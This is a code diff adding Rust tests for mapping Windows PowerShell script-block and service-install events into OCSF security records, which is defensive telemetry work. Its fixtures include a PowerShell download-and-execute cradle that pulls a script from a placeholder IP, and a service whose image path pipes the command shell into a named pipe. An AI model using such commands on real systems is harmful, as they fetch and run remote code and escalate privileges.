@@ -858,3 +858,60 @@ fn file_object_access_maps_to_file_activity() {
     let registry = access("0x1").replace("<Data Name='ObjectType'>File</Data>", "<Data Name='ObjectType'>Key</Data>");
     assert_eq!(only_record(&security_event(4663, &registry))["class_uid"], 0);
 }
+
+#[test]
+fn script_block_maps_to_script_activity() {
+    let data = "<Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>\
+                <Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.50/a.ps1')</Data>\
+                <Data Name='ScriptBlockId'>3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a</Data><Data Name='Path'>C:\\Users\\t.ngata\\run.ps1</Data>";
+    let text = xml_event(
+        "Microsoft-Windows-PowerShell",
+        "Microsoft-Windows-PowerShell/Operational",
+        4104,
+        Some("S-1-5-21-3623811015-3361044348-30300820-1013"),
+        data,
+    );
+    let ocsf = only_record(&text);
+    assert_eq!(ocsf["class_uid"], 1009);
+    assert_eq!(ocsf["activity_id"], 1);
+    assert_eq!(ocsf["script"]["type_id"], 2);
+    assert_eq!(ocsf["script"]["uid"], "3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a");
+    assert!(ocsf["script"]["script_content"]["value"].as_str().unwrap().starts_with("IEX "));
+    assert_eq!(ocsf["script"]["file"]["name"], "run.ps1");
+    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
+    assert_eq!(ocsf["script"]["script_content"]["is_truncated"], false);
+
+    let first_of_three = text.replace("<Data Name='MessageTotal'>1</Data>", "<Data Name='MessageTotal'>3</Data>");
+    assert_eq!(only_record(&first_of_three)["script"]["script_content"]["is_truncated"], true);
+
+    // Other PowerShell events keep the Base Event mapping.
+    let pipeline = xml_event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, None, "<Data Name='Payload'>x</Data>");
+    assert_eq!(only_record(&pipeline)["class_uid"], 0);
+}
+
+#[test]
+fn service_installs_map_to_windows_service_activity() {
+    let system = "<Data Name='ServiceName'>RemoteUpdater</Data><Data Name='ImagePath'>%COMSPEC% /c echo x &gt; \\\\.\\pipe\\upd</Data>\
+                  <Data Name='ServiceType'>user mode service</Data><Data Name='StartType'>demand start</Data>\
+                  <Data Name='AccountName'>LocalSystem</Data>";
+    let text = xml_event("Service Control Manager", "System", 7045, Some("S-1-5-21-3623811015-3361044348-30300820-1013"), system);
+    let ocsf = only_record(&text);
+    assert_eq!(ocsf["class_uid"], 201004);
+    assert_eq!(ocsf["category_uid"], 1);
+    assert_eq!(ocsf["type_uid"], 20100401);
+    assert_eq!(ocsf["win_service"]["name"], "RemoteUpdater");
+    assert_eq!(ocsf["win_service"]["service_start_name"], "LocalSystem");
+    assert_eq!(ocsf["severity_id"], 3, "a service running the command shell");
+    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
+    assert!(ocsf["actor"]["user"].get("name").is_none(), "LocalSystem runs the service, it did not install it");
+
+    let security = format!(
+        "{SUBJECT}<Data Name='ServiceName'>BackupAgent</Data><Data Name='ServiceFileName'>C:\\Program Files\\Backup\\agent.exe</Data>\
+         <Data Name='ServiceType'>0x10</Data><Data Name='ServiceStartType'>2</Data><Data Name='ServiceAccount'>LocalSystem</Data>"
+    );
+    let ocsf = only_record(&security_event(4697, &security));
+    assert_eq!(ocsf["class_uid"], 201004);
+    assert_eq!(ocsf["win_service"]["cmd_line"], "C:\\Program Files\\Backup\\agent.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
+    assert_eq!(ocsf["severity_id"], 1);
+}
